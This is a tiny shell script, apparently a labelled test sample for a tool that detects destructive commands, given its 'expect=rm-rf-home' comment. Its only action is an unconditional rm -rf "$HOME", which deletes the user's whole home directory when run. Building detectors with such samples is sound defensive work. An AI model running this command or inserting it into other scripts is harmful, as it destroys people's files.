#!/bin/sh
#! assess-corpus: expect=rm-rf-home
if true; then rm -rf "$HOME"; fi
